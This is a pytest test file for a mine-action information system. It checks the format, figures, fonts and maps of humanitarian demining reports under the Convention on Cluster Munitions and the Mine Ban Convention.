"""Exports a State Party can submit, and the planning figures, checked against the geometry.

Two provinces (P-A west of 102.5°E, P-B east); expected areas are computed here with
pyproj.Geod from the corner coordinates.
"""

from __future__ import annotations

import csv
import ctypes
import datetime as dt
import io
import re
import shutil
import time
from pathlib import Path
from typing import Any

import geopandas as gpd
import matplotlib.pyplot as plt
import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_c
import pytest
from openpyxl import load_workbook
from pyproj import Geod
from reportlab.pdfbase.ttfonts import shapeStr
from shapely.geometry import MultiPolygon, box
from sqlalchemy import Engine, text
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from ims.cells import csv_text, csv_value
from ims.cli import app as cli_app
from ims.config import get_settings
from ims.db.recording import load_boundaries, record_hazards, record_releases
from ims.domain import symbology
from ims.domain.enums import Contamination, HazardStatus, ReleaseMethod
from ims.domain.records import BoundaryFeature, NewHazard, NewRelease
from ims.errors import InvalidRequest, SetupError
from ims.ingest import review, submissions
from ims.reports import export, fonts, formats
from ims.reports.article7 import ReportScope, article4, article7, remaining
from ims.reports.convention import reporting_period
from ims.reports.history import article7_with_history, summary
from ims.reports.pdf import remaining_map
from ims.reports.progress import Weights, article4_series, marking, priorities, series_figure
from ims.reports.workplan import set_targets, workplan_report
from tests.utils import ClientAs

GEOD = Geod(ellps="WGS84")
ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts"
TOL = 0.1


def geod_box(x0: float, y0: float, x1: float, y1: float) -> float:
    area, _ = GEOD.polygon_area_perimeter([x0, x1, x1, x0], [y0, y0, y1, y1])
    return abs(area)


H1 = (102.1, 19.6, 102.11, 19.61)  # P-A, CHA, marked, 40 BLU-26
H2 = (102.7, 19.3, 102.71, 19.31)  # P-B, SHA, 5 BLU-26
R1 = (102.1, 19.6, 102.105, 19.61)  # cleared from H1 in 2022


@pytest.fixture
def data(session: Session) -> Session:
    load_boundaries(
        session,
        [
            BoundaryFeature("P-A", "Province A", MultiPolygon([box(102.0, 19.0, 102.5, 20.0)])),
            BoundaryFeature("P-B", "Province B", MultiPolygon([box(102.5, 19.0, 103.0, 20.0)])),
        ],
        level=1,
    )
    record_hazards(
        session,
        [
            NewHazard(
                "H1",
                HazardStatus.CHA,
                box(*H1),
                dt.date(2020, 1, 1),
                estimates={"BLU-26": 40},
                marked=dt.date(2021, 5, 1),
            ),
            NewHazard(
                "H2", HazardStatus.SHA, box(*H2), dt.date(2021, 1, 1), estimates={"BLU-26": 5}
            ),
        ],
    )
    record_releases(
        session,
        [
            NewRelease(
                "R1",
                "H1",
                ReleaseMethod.CLEARED,
                dt.date(2022, 3, 1),
                box(*R1),
                items={"BLU-26": 7},
            ),
        ],
    )
    return session


def test_xlsx_reads_back_with_the_numbers_of_the_json_report(data: Session) -> None:
    report = article7(data, 2022, ReportScope())
    wb = load_workbook(io.BytesIO(export.to_binary(data, report, "xlsx")))
    assert wb.sheetnames == ["Form 1(h)", "Form 1(i)", "Notes"]
    h = list(wb["Form 1(h)"].iter_rows(min_row=3, values_only=True))
    assert len(h) == len(report["remaining"])
    for row, want in zip(h, report["remaining"], strict=True):
        assert row[1] == want["admin_name"]
        assert row[2] == want["sha_count"] and row[5] == want["cha_count"]
        assert row[10] == pytest.approx(want["total_area_m2"])
        assert row[9] == pytest.approx(want["total_area_m2"] / 1e6)
    i = list(wb["Form 1(i)"].iter_rows(min_row=3, values_only=True))
    for row, want in zip(i, report["released"], strict=True):
        assert row[7] == pytest.approx(want["cleared_m2"]) and row[10] == want["hazards_closed"]
    total = i[-1]
    assert total[1] == "Total" and total[7] == pytest.approx(geod_box(*R1), abs=TOL)
    assert_remnant_columns_match(wb, report)
    notes = [c for r in wb["Notes"].iter_rows(values_only=True) for c in r if c]
    assert "2022-12-31" in notes and any("released once" in str(c) for c in notes)


def by_header(ws: Any) -> list[dict[str, Any]]:
    """The rows of a Form sheet (title in row 1, header in row 2) keyed by header."""
    header = [c.value for c in ws[2]]
    return [
        dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=3, values_only=True)
    ]


def assert_remnant_columns_match(wb: Any, report: dict[str, Any]) -> None:
    """Every remnant type has its own column of numbers, equal to the JSON report's."""
    h = by_header(wb["Form 1(h)"])
    assert not any("number by type" in str(k) for k in h[0])  # no text cell of types
    for row, want in zip(h, report["remaining"], strict=True):
        typed = {
            k.removeprefix("Estimated remnants: ").removesuffix(" (number)"): v
            for k, v in row.items()
            if k.startswith("Estimated remnants: ")
        }
        assert all(isinstance(v, int) for v in typed.values())
        listed = {x["type"]: x["estimated_quantity"] for x in want["remnants"]}
        assert {t: q for t, q in typed.items() if q} == listed
    i = by_header(wb["Form 1(i)"])
    for row, want in zip(i, report["released"], strict=True):
        for group, cmr in (
            ("Cluster munition remnants destroyed", True),
            ("Other items destroyed", False),
        ):
            typed = {
                k.removeprefix(f"{group}: ").removesuffix(" (number)"): v
                for k, v in row.items()
                if k.startswith(f"{group}: ")
            }
            listed = {x["type"]: x["quantity"] for x in want["destroyed"] if x["cmr"] is cmr}
            assert typed.pop("all types") == sum(listed.values())
            assert {t: q for t, q in typed.items() if q} == listed


def test_pdf_has_the_map_and_tables_and_renders(data: Session) -> None:
    pdf_bytes = export.to_binary(data, article7(data, 2022, ReportScope()), "pdf")
    pdf = pdfium.PdfDocument(pdf_bytes)
    assert len(pdf) >= 3
    text_all = " ".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
    for words in ("Article 7 report", "Form 1(h)", "Form 1(i)", "Province A", "Total"):
        assert words in text_all
    # numbers by type as "BLU-26: 40", each kept with its type by a no-break space
    assert re.search(r"BLU-26:\s[\d,]+", text_all), text_all
    ARTIFACTS.mkdir(exist_ok=True)
    pdf[0].render(scale=1.5).to_pil().save(ARTIFACTS / "article7-page1.png")
    pdf[1].render(scale=1.5).to_pil().save(ARTIFACTS / "article7-page2.png")


def test_a_pdf_made_again_on_the_same_day_is_the_same_file(data: Session) -> None:
    # a finalised report downloaded twice had differed in its creation time alone
    report = article7(data, 2022, ReportScope())
    first = export.to_binary(data, report, "pdf")
    time.sleep(1.1)  # the creation time had been to the second
    assert export.to_binary(data, report, "pdf") == first
    made = pdfium.PdfDocument(first).get_metadata_dict()["CreationDate"]
    assert made.startswith(f"D:{dt.date.today():%Y%m%d}"), made


def test_every_format_names_each_district_with_its_province_and_code(session: Session) -> None:
    # Two districts of one name in two provinces (Lao PDR has two Xaysetha, two Phonthong,
    # two Viengkham) were two rows of different figures that nothing told apart; then
    # their codes alone did, with no province column (an IM officer's review, helper-100).
    load_boundaries(
        session,
        [
            BoundaryFeature("P-A", "Province A", MultiPolygon([box(102.0, 19.0, 102.5, 20.0)])),
            BoundaryFeature("P-B", "Province B", MultiPolygon([box(102.5, 19.0, 103.0, 20.0)])),
        ],
        level=1,
    )
    load_boundaries(
        session,
        [
            BoundaryFeature("P-A-1", "Xaysetha", MultiPolygon([box(102.0, 19.0, 102.5, 20.0)])),
            BoundaryFeature("P-B-1", "Xaysetha", MultiPolygon([box(102.5, 19.0, 103.0, 20.0)])),
        ],
        level=2,
    )
    record_hazards(
        session,
        [
            NewHazard("W", HazardStatus.SHA, box(102.1, 19.6, 102.11, 19.61), dt.date(2020, 1, 1)),
            NewHazard("E", HazardStatus.CHA, box(102.6, 19.6, 102.61, 19.61), dt.date(2020, 1, 1)),
        ],
    )
    report = article7(session, 2022, ReportScope(level=2))
    pdf = pdfium.PdfDocument(export.to_binary(session, report, "pdf"))
    text_all = " ".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
    flat = " ".join(text_all.split())
    assert "Xaysetha, Province A (P-A-1)" in flat and "Xaysetha, Province B (P-B-1)" in flat
    assert [r.get("province") for r in report["remaining"]] == [
        "Province A",
        "Province B",
        None,  # unassigned
        None,  # the total
    ]
    table = list(csv.reader(io.StringIO(export.to_csv(report, "1i"))))
    assert table[0][:3] == ["admin_code", "admin_name", "province"]
    assert [row[:3] for row in table[1:3]] == [
        ["P-A-1", "Xaysetha", "Province A"],
        ["P-B-1", "Xaysetha", "Province B"],
    ]
    sheet = load_workbook(io.BytesIO(export.to_binary(session, report, "xlsx"))).worksheets[0]
    rows = [[c.value for c in row[:3]] for row in sheet.iter_rows()]
    assert ["District code", "District", "Province"] in rows
    assert ["P-B-1", "Xaysetha", "Province B"] in rows
    assert "Xaysetha, Province A" in export.to_html(report)
    # the provinces' tables are as they were
    provinces = article7(session, 2022, ReportScope(level=1))
    assert all("province" not in row for row in provinces["remaining"])
    assert export.to_csv(provinces, "1h").startswith("admin_code,admin_name,sha_count,")


# Admin names in Latin Extended letters and in Lao script, and remnants of several types:
# CMR and other items, estimated and destroyed.
NAMES = {"P-A": "Čačak", "P-B": "Ćuprija", "P-C": "ວຽງຈັນ"}
N1 = (102.1, 19.6, 102.11, 19.61)
N3 = (103.1, 19.6, 103.11, 19.61)


@pytest.fixture
def named(session: Session) -> Session:
    load_boundaries(
        session,
        [
            BoundaryFeature(
                code, name, MultiPolygon([box(102.0 + 0.5 * i, 19.0, 102.5 + 0.5 * i, 20.0)])
            )
            for i, (code, name) in enumerate(NAMES.items())
        ],
        level=1,
    )
    record_hazards(
        session,
        [
            NewHazard(
                "N1",
                HazardStatus.CHA,
                box(*N1),
                dt.date(2020, 1, 1),
                estimates={"BLU-26": 40, "M42": 6},
            ),
            NewHazard(
                "N2",
                HazardStatus.SHA,
                box(102.7, 19.3, 102.71, 19.31),
                dt.date(2021, 1, 1),
                estimates={"BLU-24": 3},
            ),
            NewHazard(
                "N3",
                HazardStatus.CHA,
                box(*N3),
                dt.date(2020, 1, 1),
                estimates={"BLU-26": 12, "MORTAR": 1},
            ),
        ],
    )
    record_releases(
        session,
        [
            NewRelease(
                "NR1",
                "N1",
                ReleaseMethod.CLEARED,
                dt.date(2022, 3, 1),
                box(102.1, 19.6, 102.105, 19.61),
                items={"BLU-26": 7, "M42": 2, "MORTAR": 1},
            ),
            NewRelease(
                "NR3",
                "N3",
                ReleaseMethod.CLEARED,
                dt.date(2022, 5, 1),
                box(*N3),
                items={"BLU-26": 3, "PROJECTILE": 2},
            ),
        ],
    )
    return session


def font_of(textpage: Any, index: int) -> tuple[str, bool, bytes]:
    """The font drawing character `index`: base name, whether embedded, its first bytes."""
    font = pdfium_c.FPDFTextObj_GetFont(pdfium_c.FPDFText_GetTextObject(textpage.raw, index))
    size = pdfium_c.FPDFFont_GetBaseFontName(font, None, 0)
    name = ctypes.create_string_buffer(size)
    pdfium_c.FPDFFont_GetBaseFontName(font, name, size)
    length = ctypes.c_size_t()
    pdfium_c.FPDFFont_GetFontData(font, None, 0, ctypes.byref(length))
    data = (ctypes.c_ubyte * length.value)()
    pdfium_c.FPDFFont_GetFontData(font, data, length.value, ctypes.byref(length))
    embedded = bool(pdfium_c.FPDFFont_GetIsEmbedded(font))
    return name.value.decode(), embedded, bytes(data[:4])


def test_pdf_prints_latin_extended_and_lao_names_in_embedded_truetype_fonts(
    named: Session,
) -> None:
    # Helvetica drew č, ć as ■ and Lao not at all (issue 19, item 11).
    pdf = pdfium.PdfDocument(export.to_binary(named, article7(named, 2022, ReportScope()), "pdf"))
    pages = [pdf[i].get_textpage() for i in range(len(pdf))]
    texts = [page.get_text_range() for page in pages]
    fonts_seen = set()
    for name in NAMES.values():
        hits = [
            (page, text.index(name))
            for page, text in zip(pages, texts, strict=True)
            if name in text
        ]
        assert hits, f"{name} is not in the PDF's text"
        for page, at in hits:
            for offset in range(len(name)):
                font, embedded, head = font_of(page, at + offset)
                assert embedded and head == b"\x00\x01\x00\x00", (name, font)  # TrueType
                fonts_seen.add(font)
    assert {"DejaVuSans", "NotoSansLao-Regular"} <= fonts_seen


# A Lao tone mark over a vowel sign, Thai, and a Khmer consonant cluster (subscript RO)
SHAPED = {"S-A": "ບ້ານສິ່ງ", "S-B": "ผู้ที่", "S-C": "ស្រុក", "S-D": "UXO-ລາວ-1 (ວຽງຈັນ)"}


def test_pdf_shapes_lao_and_draws_thai_and_khmer_in_their_fonts(session: Session) -> None:
    """Unshaped, the tone mark of ສິ່ງ was drawn on the vowel sign under it, and Thai and
    Khmer names printed as empty boxes (a review of the report's PDF)."""
    load_boundaries(
        session,
        [
            BoundaryFeature(code, name, MultiPolygon([box(102.0 + i, 19.0, 102.5 + i, 20.0)]))
            for i, (code, name) in enumerate(SHAPED.items())
        ],
        level=1,
    )
    record_hazards(session, [NewHazard("S1", HazardStatus.SHA, box(*N1), dt.date(2020, 1, 1))])
    pdf = pdfium.PdfDocument(
        export.to_binary(session, article7(session, 2022, ReportScope()), "pdf")
    )
    fonts_seen: dict[str, str] = {}
    vowel_top = mark_bottom = None
    words = " ".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
    for i in range(len(pdf)):
        page = pdf[i].get_textpage()
        text = page.get_text_range()
        for k, char in enumerate(text):
            if "\u0e00" <= char <= "\u0eff" or "\u1780" <= char <= "\u17ff":
                fonts_seen.setdefault(font_of(page, k)[0], char)
        at = text.find("ບ້ານສິ")
        if at >= 0 and vowel_top is None:
            vowel_top = page.get_charbox(at + 5)[3]  # ິ: its top
            mark_bottom = page.get_charbox(at + 6)[1]  # the tone mark's glyph: its bottom
    assert {"NotoSansLao-Regular", "NotoSansThai-Regular", "NotoSansKhmer-Regular"} <= set(
        fonts_seen
    ), fonts_seen
    assert vowel_top is not None and mark_bottom is not None, "ບ້ານສິ່ງ is not in the PDF"
    assert mark_bottom > vowel_top  # stacked above it, not drawn over it
    # a word of two scripts, each part in its own font: reportlab shaped it all in the
    # first part's font, and the PDF failed (KeyError) or drew boxes
    assert "UXO-ລາວ-1 (ວຽງຈັນ)" in words, words
    # and Latin stays as it was: HarfBuzz asked for discretionary ligatures had joined
    # every "st" of DejaVu Sans into one ornamental glyph, ﬆ ("cluﬆer", "deﬆroyed")
    assert str(shapeStr("cluster destroyed", fonts.SANS, 10)) == "cluster destroyed"
    assert str(shapeStr("cluster destroyed", fonts.SANS_BOLD, 10)) == "cluster destroyed"


def test_pdf_title_page_names_the_state_convention_period_forms_and_history(
    data: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("IMS_COUNTRY_NAME", "Republic of Testland")
    get_settings.cache_clear()
    try:
        report = article7_with_history(
            data, 2022, ReportScope(), by="tester", today=dt.date(2026, 1, 10)
        )
        pdf = pdfium.PdfDocument(export.to_binary(data, report, "pdf"))
    finally:
        get_settings.cache_clear()
    title = pdf[0].get_textpage().get_text_range()
    for words in (
        "Republic of Testland",
        "Convention on Cluster Munitions — Article 7 transparency report",
        "1 January – 31 December 2022",
        "Form 1(h) (Article 7.1(h)): remaining contamination as of 31 December 2022",
        "Form 1(i) (Article 7.1(i)): land released and items destroyed in 2022",
        f"Produced {dt.date.today().day} ",
        summary(report["history"]),
    ):
        assert words in " ".join(title.split()), words
    ARTIFACTS.mkdir(exist_ok=True)
    pdf[0].render(scale=1.5).to_pil().save(ARTIFACTS / "article7-title-page.png")


def test_mines_are_reported_under_the_mine_ban_convention(session: Session) -> None:
    load_boundaries(
        session,
        [BoundaryFeature("P-A", "Province A", MultiPolygon([box(102.0, 19.0, 102.5, 20.0)]))],
        level=1,
    )
    mined = NewHazard(
        "M1",
        HazardStatus.CHA,
        box(*H1),
        dt.date(2020, 1, 1),
        contam=Contamination.APM,
        estimates={"APM": 30},
    )
    record_hazards(session, [mined])
    report = article7(session, 2022, ReportScope(contam=Contamination.APM))
    title = pdfium.PdfDocument(export.to_binary(session, report, "pdf"))[0]
    words = " ".join(title.get_textpage().get_text_range().split())
    assert "Anti-Personnel Mine Ban Convention — Article 7 transparency report" in words
    assert "Article 7.1(c)" in words and "Cluster Munitions" not in words
    notes = load_workbook(io.BytesIO(export.to_binary(session, report, "xlsx")))["Notes"]
    assert dict(notes.iter_rows(values_only=True, max_col=2))["Convention"] == (
        "Anti-Personnel Mine Ban Convention"
    )


@pytest.mark.parametrize("contam", [Contamination.ATM, Contamination.ERW])
def test_anti_tank_mines_and_other_erw_are_a_national_report_under_no_convention(
    session: Session, contam: Contamination
) -> None:
    """The anti-tank mines' report was titled as the Mine Ban Convention's (anti-personnel
    mines only) and the ERW's as the Convention on Cluster Munitions' Form 1(h): neither
    convention's Article 7 asks for them (a new user's review)."""
    load_boundaries(
        session,
        [BoundaryFeature("P-A", "Province A", MultiPolygon([box(102.0, 19.0, 102.5, 20.0)]))],
        level=1,
    )
    record_hazards(
        session, [NewHazard("K1", HazardStatus.CHA, box(*H1), dt.date(2020, 1, 1), contam=contam)]
    )
    report = article7(session, 2022, ReportScope(contam=contam))
    pdf = pdfium.PdfDocument(export.to_binary(session, report, "pdf"))
    words = " ".join(
        " ".join(pdf[i].get_textpage().get_text_range().split()) for i in range(len(pdf))
    )
    assert "National report: remaining contamination and land release" in words
    assert "in no Article 7 form of the Convention on Cluster Munitions" in words
    for claimed in ("Article 7 transparency report", "Article 7.1", "Form 1(h)", "Form 1(i)"):
        assert claimed not in words, claimed
    assert "Remaining contamination: remaining contamination as of" not in words
    book = load_workbook(io.BytesIO(export.to_binary(session, report, "xlsx")))
    said = dict(book["Notes"].iter_rows(values_only=True, max_col=2))
    assert str(said["Convention"]).startswith("none: anti-tank mines")
    # every file says so, not the PDF and the XLSX's cells alone (a review of our change)
    assert book.sheetnames[:2] == ["Table 1", "Table 2"]
    page = export.to_html(report)
    assert f"<title>National report 2022 — {contam.value}</title>" in page
    assert "Form 1(" not in page and "Article 7" not in page
    table = export.to_csv(report)
    assert table.startswith('"Table 1 remaining contamination as of 2022-12-31')
    assert "Form 1(" not in table and "Table 2 land release in 2022" in table


def test_the_notes_list_only_the_submissions_a_reviewer_chose_in_xlsx_and_pdf(
    named: Session, tmp_path: Path
) -> None:
    # Only the XLSX notes had them (issue 19, item 11); then every failed trial import was
    # "awaiting review with errors" in the official notes (issue 18, item 5).
    bad = gpd.GeoDataFrame(
        [
            {
                "release_id": "X-1",
                "hazard_id": "NOWHERE",
                "method": "cleared",
                "released": "2022-02-01",
                "items": "BLU26:3",
            }
        ],
        geometry=[box(*N1)],
        crs=4326,
    )
    bad.to_file(tmp_path / "bad.geojson", driver="GeoJSON")
    trial = submissions.stage(named, tmp_path / "bad.geojson", kind="releases")
    staged = submissions.stage(named, tmp_path / "bad.geojson", kind="releases", organisation="NPA")
    assert trial.errors >= 2 and staged.errors >= 2
    report = article7(named, 2022, ReportScope())

    def notes() -> tuple[dict[str, object], str]:
        sheet = load_workbook(io.BytesIO(export.to_binary(named, report, "xlsx")))["Notes"]
        rows = [r for r in sheet.iter_rows(values_only=True) if r and r[0]]
        start = next(i for i, r in enumerate(rows) if r[0] == "Data-quality findings outstanding")
        listed = {str(r[0]).strip(): r[1] for r in rows[start + 1 :]}
        pdf = pdfium.PdfDocument(export.to_binary(named, report, "pdf"))
        text = " ".join(
            " ".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf))).split()
        )
        return listed, text

    listed, text = notes()  # a pending submission is not noted unless a reviewer says so
    assert listed == {"Submissions awaiting review, noted by a reviewer": 0, "none": None}
    assert "No submission awaiting review is noted here: a reviewer chooses" in " ".join(
        text.split()
    )

    review.set_noted(named, staged.submission.id, True, by="reviewer")
    listed, text = notes()
    assert listed.pop("Submissions awaiting review, noted by a reviewer") == 1
    sid = staged.submission.id
    line = (
        f"submission {sid} (NPA, releases, bad.geojson): 1 feature, {staged.errors} error findings"
    )
    assert listed.pop(line) is None
    assert listed.pop("Their error findings by kind") == staged.errors
    assert set(listed) >= {"unknown_hazard", "unknown_munition"}
    assert "1 submission awaiting review is noted by a reviewer" in text
    assert f"submission {sid} (NPA, releases, bad.geojson)" in text
    for code, count in listed.items():
        assert f"{code} {count}" in text
    assert f"submission {trial.submission.id} " not in text  # the trial stays out


def test_the_map_names_every_province_with_a_halo(named: Session) -> None:
    report = article7(named, 2022, ReportScope())
    fig = remaining_map(export.admin_geometries(named, 1), report)
    try:
        labels = {t.get_text().split("\n")[0]: t for t in fig.axes[0].texts}
        assert set(NAMES.values()) <= set(labels)
        assert all(t.get_path_effects() and t.get_fontsize() <= 6 for t in labels.values())
    finally:
        plt.close(fig)


def test_a_district_map_is_drawn_in_the_districts_classes(named: Session) -> None:
    """A district holds about a tenth of a province: drawn in the provinces' classes, the
    demo's district map was nearly one colour (helper-97)."""
    for level, breaks in ((1, symbology.CHOROPLETH_BREAKS_KM2), (2, symbology.DISTRICT_BREAKS_KM2)):
        report = {**article7(named, 2022, ReportScope()), "level": level}
        fig = remaining_map(export.admin_geometries(named, 1), report)
        try:
            legend = fig.axes[0].get_legend()
            shown = [t.get_text() for t in legend.get_texts()]
            assert shown[0] == f"< {breaks[0]:g}" and shown[-1] == f"≥ {breaks[-1]:g}", shown
        finally:
            plt.close(fig)


def test_names_on_the_map_never_overlap_and_the_most_contaminated_keep_theirs(
    session: Session,
) -> None:
    """The districts' map printed dozens of names over each other (a new user's review):
    where two would overlap, the less contaminated one is left out."""

    def area(code: str, name: str, *corners: float) -> BoundaryFeature:
        return BoundaryFeature(code, name, MultiPolygon([box(*corners)]))

    crowd = [
        area(f"D-{i}", f"District {i}", 102.0 + i * 0.01, 19.0, 102.01 + i * 0.01, 19.01)
        for i in range(12)
    ]
    # far to the south, as Laos is tall: the map's equal aspect then narrows it a great deal
    crowd.append(area("D-FAR", "Far away", 102.0, 16.0, 102.1, 16.1))
    load_boundaries(session, crowd, level=1)
    record_hazards(
        session,
        [NewHazard("C1", HazardStatus.CHA, box(102.05, 19.0, 102.06, 19.01), dt.date(2020, 1, 1))],
    )
    report = article7(session, 2022, ReportScope())
    fig = remaining_map(export.admin_geometries(session, 1), report)
    try:
        fig.canvas.draw()  # as saved: the equal aspect applied, names where they are drawn
        renderer = fig.canvas.get_renderer()  # type: ignore[attr-defined]
        texts = fig.axes[0].texts
        names = [t.get_text().split("\n")[0] for t in texts]
        assert "District 5" in names and "Far away" in names  # the contaminated one, alone
        assert len(names) < len(crowd)  # narrow neighbours left out
        boxes = [t.get_window_extent(renderer).padded(1.0) for t in texts]  # and halos
        for i, a in enumerate(boxes):
            for b in boxes[i + 1 :]:
                assert not a.overlaps(b)
    finally:
        plt.close(fig)


def test_a_name_whose_place_is_taken_is_moved_beside_it_rather_than_left_out(
    session: Session,
) -> None:
    """Vientiane province's and Xekong's names were left out of the 2025 map beside their
    neighbours' (an IM officer's review, helper-100): a name is tried a little above, below
    or beside its place before it is left out."""

    def area(code: str, name: str, *corners: float) -> BoundaryFeature:
        return BoundaryFeature(code, name, MultiPolygon([box(*corners)]))

    load_boundaries(
        session,
        [
            area("P-N", "North", 102.0, 19.12, 102.6, 19.3),
            area("P-S", "South", 102.0, 18.94, 102.6, 19.12),
            area("P-BIG", "Big", 100.0, 14.0, 107.0, 18.0),  # the country's scale
        ],
        level=1,
    )
    record_hazards(
        session,
        [NewHazard("C1", HazardStatus.CHA, box(102.1, 19.2, 102.11, 19.21), dt.date(2020, 1, 1))],
    )
    report = article7(session, 2022, ReportScope())
    fig = remaining_map(export.admin_geometries(session, 1), report)
    try:
        fig.canvas.draw()
        renderer = fig.canvas.get_renderer()  # type: ignore[attr-defined]
        texts = fig.axes[0].texts
        names = [t.get_text().split("\n")[0] for t in texts]
        assert {"North", "South", "Big"} <= set(names), names
        boxes = [t.get_window_extent(renderer).padded(1.0) for t in texts]
        for i, a in enumerate(boxes):
            for b in boxes[i + 1 :]:
                assert not a.overlaps(b)
    finally:
        plt.close(fig)


def test_the_xlsx_has_a_column_per_remnant_type_and_cmr_destroyed_apart(named: Session) -> None:
    report = article7(named, 2022, ReportScope())
    wb = load_workbook(io.BytesIO(export.to_binary(named, report, "xlsx")))
    assert_remnant_columns_match(wb, report)
    total = by_header(wb["Form 1(i)"])[-1]
    assert total["Cluster munition remnants destroyed: all types (number)"] == 12
    assert total["Cluster munition remnants destroyed: M42 (number)"] == 2
    assert total["Other items destroyed: all types (number)"] == 3
    assert total["Other items destroyed: PROJECTILE (number)"] == 2
    # N3 was cleared whole in 2022: only N1's estimate remains.
    assert by_header(wb["Form 1(h)"])[-1]["Estimated remnants: BLU-26 (number)"] == 40


def test_a_missing_font_is_a_setup_error_naming_the_package(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    latin = fonts.find_face(fonts.LATIN)
    assert latin is not None
    monkeypatch.setattr(fonts, "_found", {})
    monkeypatch.setattr(fonts, "_search_dirs", lambda: [tmp_path])  # no font at all
    with pytest.raises(SetupError, match="install the Debian package fonts-dejavu-core"):
        fonts.faces_for(["Čačak"])
    shutil.copy(latin.regular, tmp_path / "DejaVuSans.ttf")  # Latin only, no Lao
    assert [f.script.name for f in fonts.faces_for(["Čačak"])] == ["Latin"]
    with pytest.raises(SetupError, match="fonts-noto-core or fonts-lao") as caught:
        fonts.faces_for(["Province ວຽງຈັນ"])
    assert "ວຽງຈັນ" in caught.value.detail


def test_article4_series_conserves_area_each_year(data: Session) -> None:
    series = article4_series(data, dt.date(2019, 12, 31), 2023, Contamination.CMR)
    level = series["area_at_baseline_m2"]
    assert level == 0.0
    for row in series["years"]:
        level += row["added_m2"] - row["released_m2"]["total"]
        assert row["remaining_end_m2"] == pytest.approx(level, abs=TOL)
        check = article4(
            data, dt.date(2019, 12, 31), dt.date(row["year"], 12, 31), Contamination.CMR
        )
        assert row["remaining_end_m2"] == pytest.approx(check["remaining_m2"], abs=TOL)
    by_year = {r["year"]: r for r in series["years"]}
    assert by_year[2020]["added_m2"] == pytest.approx(geod_box(*H1), abs=TOL)
    assert by_year[2022]["released_m2"]["cleared"] == pytest.approx(geod_box(*R1), abs=TOL)


def test_marking_shares_and_hazards_not_surveyed_since_the_baseline(data: Session) -> None:
    rows = {
        r["admin_code"]: r
        for r in marking(data, dt.date(2023, 1, 1), dt.date(2020, 6, 1), Contamination.CMR)
    }
    assert rows["P-A"]["marked_hazards"] == 1 and rows["P-A"]["marked_hazard_share"] == 1.0
    assert rows["P-B"]["marked_hazards"] == 0 and rows["P-B"]["marked_area_share"] == 0.0
    # H1 (recorded before the baseline) was cleared in part since; H2 was recorded after it.
    assert rows["P-A"]["not_surveyed_since_baseline"] == 0
    total = rows["TOTAL"]
    remaining = geod_box(102.105, 19.6, 102.11, 19.61) + geod_box(*H2)
    assert total["remaining_m2"] == pytest.approx(remaining, abs=TOL)
    assert total["marked_area_share"] == pytest.approx(
        geod_box(102.105, 19.6, 102.11, 19.61) / remaining, rel=1e-6
    )
    before = {
        r["admin_code"]: r
        for r in marking(data, dt.date(2021, 1, 1), dt.date(2020, 6, 1), Contamination.CMR)
    }
    assert before["P-A"]["marked_hazards"] == 0  # marked only from May 2021
    assert before["P-A"]["not_surveyed_since_baseline"] == 1


def test_marking_puts_a_straddling_hazards_area_where_form_1h_puts_it(data: Session) -> None:
    """A hazard across the provinces' border: its area is split between them as Form 1(h)
    splits it (helper-86 found the whole of it in the province that counts it, ten of the
    demo's eighteen provinces off), and it is counted once, where Form 1(h) counts it."""
    west, east = (102.49, 19.4, 102.5, 19.41), (102.5, 19.4, 102.504, 19.41)
    record_hazards(
        data,
        [
            NewHazard(
                "H3",
                HazardStatus.SHA,
                box(west[0], west[1], east[2], east[3]),
                dt.date(2021, 6, 1),
                marked=dt.date(2021, 7, 1),
            )
        ],
    )
    # and a hazard cleared but for a corner of 0.25 m²: closed, its rest still in Form
    # 1(h)'s area (helper-88 found marking 0.03 m² short of it in Khammouane)
    whole = box(102.3, 19.3, 102.301, 19.301)
    corner = box(102.301 - 4.7e-6, 19.301 - 4.5e-6, 102.301, 19.301)
    record_hazards(data, [NewHazard("H4", HazardStatus.CHA, whole, dt.date(2021, 6, 1))])
    record_releases(
        data,
        [NewRelease("R4", "H4", ReleaseMethod.CLEARED, dt.date(2022, 6, 1), whole - corner)],
    )
    day = dt.date(2023, 1, 1)
    rows = {r["admin_code"]: r for r in marking(data, day, dt.date(2020, 6, 1), Contamination.CMR)}
    h1_left = geod_box(102.105, 19.6, 102.11, 19.61)
    rest = geod_box(*corner.bounds)
    assert 0.1 < rest < 1.0  # closed: under a square metre remains
    assert rows["P-A"]["remaining_m2"] == pytest.approx(h1_left + geod_box(*west) + rest, abs=TOL)
    assert rows["P-B"]["remaining_m2"] == pytest.approx(geod_box(*H2) + geod_box(*east), abs=TOL)
    assert rows["P-B"]["marked_m2"] == pytest.approx(geod_box(*east), abs=TOL)
    # counted once, in P-A, which holds the larger share
    assert (rows["P-A"]["open_hazards"], rows["P-B"]["open_hazards"]) == (2, 1)
    form = {r["admin_code"]: r for r in remaining(data, day, ReportScope(level=1))}
    for code in ("P-A", "P-B", "TOTAL"):
        assert rows[code]["remaining_m2"] == pytest.approx(form[code]["total_area_m2"], abs=1e-3)
        assert rows[code]["open_hazards"] == form[code]["total_count"]


def test_priorities_rank_by_the_weighted_factors(data: Session) -> None:
    ranked = priorities(data, dt.date(2023, 1, 1), Weights(), Contamination.CMR)
    assert [r["reference"] for r in ranked] == ["H1", "H2"]  # CHA with more remnants first
    only_area = priorities(
        data, dt.date(2023, 1, 1), Weights(cha=0, area=1, remnants=0, idle=0), Contamination.CMR
    )
    assert [r["reference"] for r in only_area] == ["H2", "H1"]  # H2 has more ground left
    assert only_area[0]["score"] == pytest.approx(1.0)


def test_work_plan_target_against_actual_and_projection(data: Session) -> None:
    set_targets(
        data,
        [{"year": 2022, "province": "P-A", "method": "clearance", "target_m2": 100_000}],
        where="test",
    )
    set_targets(
        data,
        [{"year": 2022, "province": "P-A", "method": "cleared", "target_m2": 50_000}],
        where="test",
    )
    plan = workplan_report(data, 2022, Contamination.CMR)
    (line,) = [x for x in plan["lines"] if x["method"] == "cleared"]
    assert line["target_m2"] == 50_000  # the later target is in force; the first is kept
